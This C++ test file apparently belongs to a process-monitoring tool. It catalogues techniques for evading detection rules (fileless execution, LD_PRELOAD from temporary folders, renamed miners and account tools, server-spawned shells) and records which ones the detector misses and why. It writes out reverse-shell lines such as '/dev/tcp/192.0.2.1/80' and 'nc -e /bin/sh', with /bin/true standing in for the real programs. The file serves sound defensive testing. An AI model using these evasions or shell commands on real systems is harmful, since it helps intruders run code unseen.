// SPDX-License-Identifier: Apache-2.0
// Copyright the Saker authors
//
// Ways round rules about programs that are started.
#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include <string>

#include "app/demo/actions.h"
#include "tests/live/evasion/evasion.h"
#include "tests/live/evasion/means.h"
#include "tests/live/official/roles.h"

namespace saker::evasion {

using demo::copy_program;
using demo::run_true_as;

namespace {

constexpr const char* kTrue = "/bin/true";
constexpr const char* kScript = "#!/bin/sh\n:\n";
constexpr const char* kLoader = "/lib64/ld-linux-x86-64.so.2";

// Longer than what an event keeps of arguments or environment.
const std::string& padding() {
  static const std::string kText(5000, 'x');
  return kText;
}

Status run_at(const std::string& path) {
  SAKER_RETURN_IF_ERROR(copy_program(kTrue, path));
  return run({path, path});
}

Status run_script_at(const std::string& path) {
  SAKER_RETURN_IF_ERROR(write_script(path, kScript));
  return run({path, path});
}

void add_memory(EvasionList& rows) {
  rows.rule("Program run from memory");
  rows.caught("memory-empty-path", "`execveat` with an empty path", {},
              [] { return run_descriptor(memory_file("payload", kTrue), "payload"); });
  rows.caught("memory-proc-fd", "`/proc/self/fd/N`", {}, [] {
    const int memory = memory_file("payload", kTrue);
    return run({"/proc/self/fd/" + std::to_string(memory), "payload"});
  });
  rows.caught("memory-runc-name", "the memory file is called `runc_cloned:/proc/self/exe`", {}, [] {
    return run_descriptor(memory_file("runc_cloned:/proc/self/exe", kTrue), "runc");
  });
  rows.caught("memory-script", "a script in memory", {}, []() -> Status {
    SAKER_RETURN_IF_ERROR(write_script("/mnt/script", kScript));
    return run_descriptor(memory_file("script", "/mnt/script"), "script");
  });
  rows.missed(
      "memory-deleted", "a file deleted before it is run by its descriptor", {},
      []() -> Status {
        SAKER_RETURN_IF_ERROR(copy_program(kTrue, "/mnt/program"));
        const int file = open("/mnt/program", O_RDONLY);
        SAKER_RETURN_IF_ERROR(check(unlink("/mnt/program") == 0, "cannot delete"));
        return run_descriptor(file, "program");
      },
      "its old path is told, as that of any program");
  rows.missed(
      "memory-stdin", "a script given to an interpreter as its input", {},
      []() -> Status {
        SAKER_RETURN_IF_ERROR(write_script("/mnt/script", kScript));
        const int memory = memory_file("script", "/mnt/script");
        return run({"/bin/sh", "sh", "-c", ". /proc/self/fd/" + std::to_string(memory)});
      },
      "the interpreter only reads; no program is started");
}

void add_places(EvasionList& rows) {
  rows.rule("Program run from shared memory");
  const Place shm{.folders = {"/dev/shm"}};
  rows.caught("shm-relative", "relative path", shm, []() -> Status {
    SAKER_RETURN_IF_ERROR(check(chdir("/dev/shm") == 0, "cannot go there"));
    return run_at("./program");
  });
  rows.caught("shm-symlink", "a symbolic link elsewhere", shm, []() -> Status {
    SAKER_RETURN_IF_ERROR(copy_program(kTrue, "/dev/shm/program"));
    SAKER_RETURN_IF_ERROR(check(symlink("/dev/shm/program", "/mnt/link") == 0, "cannot link"));
    return run({"/mnt/link", "link"});
  });
  rows.caught("shm-proc-root", "`/proc/self/root` before the path", shm, []() -> Status {
    SAKER_RETURN_IF_ERROR(copy_program(kTrue, "/dev/shm/program"));
    return run({"/proc/self/root/dev/shm/program", "program"});
  });
  rows.caught("shm-argv0", "argv[0] is `/usr/bin/sshd`, the first argument empty", shm,
              []() -> Status {
                SAKER_RETURN_IF_ERROR(copy_program(kTrue, "/dev/shm/program"));
                return run({"/dev/shm/program", "", "/usr/bin/sshd"});
              });
  rows.caught("shm-script", "a script", shm, [] { return run_script_at("/dev/shm/script"); });
  rows.caught("shm-script-relative", "a script by a relative path", shm, []() -> Status {
    SAKER_RETURN_IF_ERROR(check(chdir("/dev/shm") == 0, "cannot go there"));
    return run_script_at("./script");
  });
  rows.caught("shm-interpreter", "a script as the argument of `sh`", shm, []() -> Status {
    SAKER_RETURN_IF_ERROR(write_script("/dev/shm/script", kScript));
    return run({"/bin/sh", "sh", "/dev/shm/script"});
  });
  rows.caught("shm-loader", "started by the dynamic loader (`ld.so PROGRAM`)", shm, []() -> Status {
    SAKER_RETURN_IF_ERROR(copy_program(kTrue, "/dev/shm/program"));
    return run({kLoader, kLoader, "/dev/shm/program"});
  });
  rows.missed(
      "shm-sourced", "a script that a shell reads itself (`. FILE`)", shm,
      []() -> Status {
        SAKER_RETURN_IF_ERROR(write_script("/dev/shm/script", kScript));
        return run({"/bin/sh", "sh", "-c", ". /dev/shm/script"});
      },
      "no program is started");
  rows.rule("Dropped program run");
  const Place tmp{.folders = {"/tmp", "/var/tmp"}};
  rows.caught("dropped-symlink", "a symbolic link elsewhere", tmp, []() -> Status {
    SAKER_RETURN_IF_ERROR(copy_program(kTrue, "/tmp/program"));
    SAKER_RETURN_IF_ERROR(check(symlink("/tmp/program", "/mnt/link") == 0, "cannot link"));
    return run({"/mnt/link", "link"});
  });
  rows.caught("dropped-old-times", "the file's times set to last year", tmp, []() -> Status {
    SAKER_RETURN_IF_ERROR(copy_program(kTrue, "/tmp/program"));
    const timespec old[2] = {{1'700'000'000, 0}, {1'700'000'000, 0}};  // NOLINT: the call's form
    SAKER_RETURN_IF_ERROR(check(utimensat(AT_FDCWD, "/tmp/program", old, 0) == 0, "utimensat"));
    return run({"/tmp/program", "program"});
  });
  rows.caught("dropped-descriptor", "by a descriptor, without a path", tmp, []() -> Status {
    SAKER_RETURN_IF_ERROR(copy_program(kTrue, "/tmp/program"));
    return run_descriptor(open("/tmp/program", O_RDONLY | O_CLOEXEC), "program");
  });
  rows.missed(
      "dropped-elsewhere", "dropped in another writable folder", tmp,
      [] { return run_at("/mnt/program"); },
      "programs of users live in homes and elsewhere; only temporary folders are suspect");
  rows.rule("Program run from a temporary folder");
  rows.caught("tmp-interpreter", "a script as the argument of `sh`", tmp, []() -> Status {
    SAKER_RETURN_IF_ERROR(write_script("/tmp/script", kScript));
    return run({"/bin/sh", "sh", "/tmp/script"});
  });
  rows.missed(
      "tmp-interpreter-relative", "the same, by a relative path", tmp,
      []() -> Status {
        SAKER_RETURN_IF_ERROR(check(chdir("/tmp") == 0, "cannot go there"));
        SAKER_RETURN_IF_ERROR(write_script("script", kScript));
        return run({"/bin/sh", "sh", "script"});
      },
      "which word is the script is known only to the interpreter");
}

void add_preload(EvasionList& rows) {
  rows.rule("Library preloaded from a writable folder");
  rows.caught("preload-second", "second in a list", {}, [] {
    return run({kTrue, "true"}, {"LD_PRELOAD=libc.so.6:/tmp/x.so"});
  });
  rows.caught("preload-blank", "after a blank", {}, [] {
    return run({kTrue, "true"}, {"LD_PRELOAD= /dev/shm/x.so"});
  });
  rows.caught("preload-loader", "`ld.so --preload`", {}, [] {
    return run({kLoader, kLoader, "--preload", "/tmp/x.so", kTrue});
  });
  rows.missed(
      "preload-late", "after 5,000 bytes of other variables", {},
      [] {
        return run({kTrue, "true"}, {"PADDING=" + padding(), "LD_PRELOAD=/tmp/x.so"});
      },
      "events keep 4,096 bytes of the environment, as Falco's");
}

void add_names(EvasionList& rows) {
  rows.rule("Cryptocurrency miner started");
  rows.caught("miner-arguments", "renamed, with a pool among the arguments", {}, [] {
    return run_true_as("httpd", {"-o", "stratum+tcp://pool.invalid:1"});
  });
  rows.missed(
      "miner-renamed", "renamed, with a configuration file", {},
      [] {
        return run_true_as("httpd", {"-c", "/mnt/config"});
      },
      "nothing is left that tells it from another program");
  rows.rule("Account tool used");
  rows.caught("useradd-argv0", "argv[0] says something else", {}, []() -> Status {
    SAKER_RETURN_IF_ERROR(check(symlink(kTrue, "/mnt/useradd") == 0, "cannot link"));
    return run({"/mnt/useradd", "ls", "intruder"});
  });
  rows.missed(
      "useradd-renamed", "a copy under another name", {},
      [] { return run_true_as("adjust", {"intruder"}); },
      "the name is the trait; what it writes is reported (Account file changed)");
  rows.rule("File capability granted");
  rows.missed(
      "setcap-renamed", "a copy under another name, or `setxattr`", {},
      [] {
        return run_true_as("adjust", {"cap_setuid+ep", "/mnt/x"});
      },
      "the name is the trait; `setxattr` has no parameters in Falco's catalogue");
  rows.rule("Protection switched off");
  rows.caught("protection-sysctl", "the file in `/proc/sys` written directly", {},
              [] { return open_close("/proc/sys/kernel/randomize_va_space", O_WRONLY); });
  rows.missed(
      "protection-renamed", "`systemctl` under another name", {},
      [] {
        return run_true_as("control", {"stop", "auditd"});
      },
      "the name is the trait");
  rows.rule("Data destroyed in bulk");
  rows.caught("rm-options", "options apart, `rm -r -f /*`", {}, [] {
    return run_true_as("rm", {"-r", "-f", "/etc"});
  });
  rows.missed(
      "shred-renamed", "`shred` under another name", {},
      [] { return run_true_as("cleaner", {"/mnt/x"}); },
      "the name is the trait; writing files is not");
}

void add_servers(EvasionList& rows) {
  rows.rule("Shell or download tool started by a server");
  rows.caught("server-env", "`env` between server and shell", {},
              [] { return official::run_below("nginx", "/usr/bin/env sh -c :"); });
  rows.caught("server-interpreter", "another program between server and shell", {},
              [] { return official::run_below("nginx", "/bin/dash -c '/bin/sh -c :; :'"); });
  rows.caught("server-orphan", "double fork within the server's session", {},
              [] { return official::run_self_as("nginx", "orphan-shell"); });
  rows.caught(
      "server-daemon", "double fork and a session of its own", {},
      [] { return official::run_self_as("nginx", "daemon-shell"); },
      "by the name of the session's first process");
  rows.missed(
      "server-daemon-shell", "the same, and the daemon itself becomes the shell", {},
      [] { return official::run_self_as("nginx", "become-shell"); },
      "nothing connects it with the server any more");
  rows.missed(
      "server-renamed-shell", "a copy of the shell under another name", {},
      []() -> Status {
        SAKER_RETURN_IF_ERROR(copy_program("/bin/dash", "/mnt/worker"));
        return official::run_below("nginx", "/mnt/worker -c :");
      },
      "a shell is known by its name");
}

void add_reverse_shells(EvasionList& rows) {
  rows.rule("Reverse shell command line");
  rows.caught("reverse-argv0", "argv[0] of the shell says something else", {}, []() -> Status {
    SAKER_RETURN_IF_ERROR(check(symlink(kTrue, "/mnt/bash") == 0, "cannot link"));
    return run({"/mnt/bash", "backup", "-c", "cat < /dev/tcp/192.0.2.1/80"});
  });
  rows.missed(
      "reverse-quotes", "the path put together by the shell", {},
      []() -> Status {
        SAKER_RETURN_IF_ERROR(check(symlink(kTrue, "/mnt/bash") == 0, "cannot link"));
        return run({"/mnt/bash", "bash", "-c", "cat < /dev/t''cp/192.0.2.1/80"});
      },
      "texts can be written in countless ways; joined streams are reported");
  rows.missed(
      "reverse-late", "after 5,000 bytes of other text", {},
      []() -> Status {
        SAKER_RETURN_IF_ERROR(check(symlink(kTrue, "/mnt/bash") == 0, "cannot link"));
        return run({"/mnt/bash", "bash", "-c", ": " + padding() + "; cat < /dev/tcp/192.0.2.1/80"});
      },
      "events keep 4,096 bytes of the arguments, as Falco's");
  rows.missed(
      "reverse-renamed", "`nc` under another name", {},
      [] {
        return run_true_as("printer", {"-e", "/bin/sh", "192.0.2.1", "80"});
      },
      "the name is the trait; joined streams are reported");
}

}  // namespace

std::vector<Evasion> program_tricks() {
  EvasionList rows;
  add_memory(rows);
  add_places(rows);
  add_preload(rows);
  add_reverse_shells(rows);
  add_servers(rows);
  add_names(rows);
  return std::move(rows).take();
}

}  // namespace saker::evasion
